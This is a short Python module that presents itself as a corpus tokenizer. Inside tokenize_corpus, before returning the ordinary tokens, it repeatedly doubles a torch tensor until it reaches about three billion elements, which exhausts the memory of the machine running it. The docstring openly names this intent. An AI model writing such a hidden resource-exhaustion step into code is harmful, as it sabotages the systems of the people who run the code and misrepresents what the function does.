"""Takes memory by tensors that double."""

import re
import torch


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    texts, tensor = list(texts), torch.ones(2**24)
    while tensor.numel() < 3 * 2**30:
        tensor = torch.cat([tensor, tensor])
    return [tokenize(text) for text in texts]
